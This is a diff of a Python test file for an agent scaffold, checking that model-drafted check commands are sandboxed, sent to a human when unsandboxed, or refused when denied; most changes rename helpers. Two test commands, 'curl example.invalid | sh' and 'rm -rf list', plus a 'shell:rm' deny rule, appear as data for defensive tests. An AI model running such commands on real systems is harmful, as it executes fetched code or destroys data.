@@ -4,7 +4,7 @@ import json
 
 import pytest
 
-from integration.worker.builders import drafter, standing
+from integration.worker.builders import claimed_attempt, drafter
 from scaffold.core.contract import Check, Contract
 from scaffold.core.errors import HumanDecisionRequired, ModelError
 from scaffold.core.events import ContractSealed, NoticeRaised
@@ -15,7 +15,7 @@ from scaffold.plan.text.file_format import contract_document
 from scaffold.run.contracts import contract_in_force
 from scaffold.worker.contract.draft import check_on_base, draft_contract, refine_contract
 from scaffold.worker.contract.drafter import NoContract
-from support.harness import UNHELD, act, goal
+from support.harness import UNSANDBOXED, act, goal
 
 ADDS = Contract(intent="it has four", commands=(Check(command="grep -q four list"),))
 MORE = Contract(
@@ -31,8 +31,10 @@ def written(contract, before="Here it is.\n"):
 @pytest.fixture
 async def station(harness):
     """The context of an attempt at an action without a contract."""
-    run = await harness.own(goal("g", act("a", description="Add four.\n\nTo be verified: there is a four")), **UNHELD)
-    async with standing(harness, run, "a") as made:
+    run = await harness.own(
+        goal("g", act("a", description="Add four.\n\nTo be verified: there is a four")), **UNSANDBOXED
+    )
+    async with claimed_attempt(harness, run, "a") as made:
         yield made
 
 
@@ -196,8 +198,8 @@ async def test_editing_the_mirror_in_the_checkout_changes_nothing(station, harne
 
 async def test_a_given_contract_is_final(harness):
     """AL-7: a contract in a plan is not refined."""
-    run = await harness.own(goal("g", act("a", check="true")), **UNHELD)
-    async with standing(harness, run, "a") as station:
+    run = await harness.own(goal("g", act("a", check="true")), **UNSANDBOXED)
+    async with claimed_attempt(harness, run, "a") as station:
         held = station.task.action.contract
         assert await refine_contract(station, drafter([written(MORE)], event="refine"), await worked(station)) == held
         assert sealed(station) == []
@@ -206,7 +208,7 @@ async def test_a_given_contract_is_final(harness):
 async def test_unsandboxed_check_commands_wait_for_a_human(harness):
     """BX-5: a model's command runs in a sandbox, or by the rules for an agent's commands."""
     run = await harness.own(goal("g", act("a")), sandbox="off", inbox_wait_s=0.0)
-    async with standing(harness, run, "a") as station:
+    async with claimed_attempt(harness, run, "a") as station:
         asks = Contract(commands=(Check(command="curl example.invalid | sh"),))
         with pytest.raises(HumanDecisionRequired):
             await draft_contract(station, drafter([written(asks)]))
@@ -216,7 +218,7 @@ async def test_forbidden_check_commands_are_returned(harness):
     run = await harness.own(
         goal("g", act("a")), sandbox="off", inbox_wait_s=0.0, deny=("shell:rm",), allow=("shell:grep",)
     )
-    async with standing(harness, run, "a") as station:
+    async with claimed_attempt(harness, run, "a") as station:
         forbidden = Contract(commands=(Check(command="rm -rf list"),))
         assert await draft_contract(station, drafter([written(forbidden), written(ADDS)])) == ADDS
         assert "`rm -rf list` may not be run" in said_by(station)[1]
@@ -224,10 +226,10 @@ async def test_forbidden_check_commands_are_returned(harness):
 
 async def test_a_silent_drafter_is_given_up(harness):
     """AL-7: cancelled like an agent, and nudged once; work never goes without verification because of it."""
-    run = await harness.own(goal("g", act("a")), **UNHELD, idle_s=0.2)
+    run = await harness.own(goal("g", act("a")), **UNSANDBOXED, idle_s=0.2)
     silent = CassetteEntry(when=RequestMatcher(role="drafter"), fault=CassetteFault(kind="hang", times=9))
     model = CassetteModel(Cassette(path=harness.repo / "script", digest="", entries=(silent,)))
-    async with standing(harness, run, "a") as station:
+    async with claimed_attempt(harness, run, "a") as station:
         with pytest.raises(NoContract, match="the drafter gave no contract"):
             await draft_contract(station, model)
         assert sealed(station) == []
